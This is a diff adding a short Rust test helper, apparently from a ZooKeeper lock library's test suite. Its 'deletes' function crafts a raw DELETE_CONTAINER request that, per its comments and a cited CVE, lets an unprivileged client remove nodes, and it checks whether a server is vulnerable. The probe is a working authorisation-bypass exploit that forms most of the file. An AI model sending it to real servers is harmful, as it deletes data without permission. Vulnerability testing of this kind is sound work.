@@ -1,0 +1,44 @@
+//! A client that has no rights, and deletes nodes all the same.
+
+use std::io::{self, Read, Write};
+use std::net::TcpStream;
+use std::time::Duration;
+
+use zk_rwlock::coordinator::{Failure, Session};
+
+use super::frames::{Hello, framed};
+use super::server::Server;
+
+/// ZooKeeper's own request to remove a container.
+const DELETE_CONTAINER: i32 = 20;
+
+/// Whether a server deletes this node for a connection that does no more than ask. (CVE-2026-79993)
+pub fn deletes(server: &Server, path: &str) -> bool {
+    let mut stream = TcpStream::connect(server.address()).expect("it listens");
+    stream.set_read_timeout(Some(Duration::from_secs(20))).expect("a limit");
+    stream.write_all(&Hello::of_a_new_session(4_000).frame()).expect("it reads");
+    answer(&mut stream).expect("a session");
+    let length = u32::try_from(path.len()).expect("paths are short");
+    let (xid, kind) = (1_i32.to_be_bytes(), DELETE_CONTAINER.to_be_bytes());
+    let request = [&xid[..], &kind, &length.to_be_bytes(), path.as_bytes()].concat();
+    stream.write_all(&framed(&request)).expect("it reads");
+    // Behind the xid and the zxid is what went wrong. Newer servers close the connection.
+    answer(&mut stream).is_ok_and(|reply| reply[12..16] == [0; 4])
+}
+
+/// Has a persistent node without children vanish: by that request, or on servers that refuse it as any client can that may.
+pub async fn has_vanish(server: &Server, session: &dyn Session, path: &str) {
+    if !deletes(server, path) {
+        session.delete(path).await.expect("it may");
+    }
+    session.sync(path).await.expect("in time");
+    assert!(matches!(session.data(path).await, Err(Failure::NoNode)), "{path} is still there");
+}
+
+fn answer(stream: &mut TcpStream) -> io::Result<Vec<u8>> {
+    let mut length = [0; 4];
+    stream.read_exact(&mut length)?;
+    let mut body = vec![0; u32::from_be_bytes(length) as usize];
+    stream.read_exact(&mut body)?;
+    Ok(body)
+}
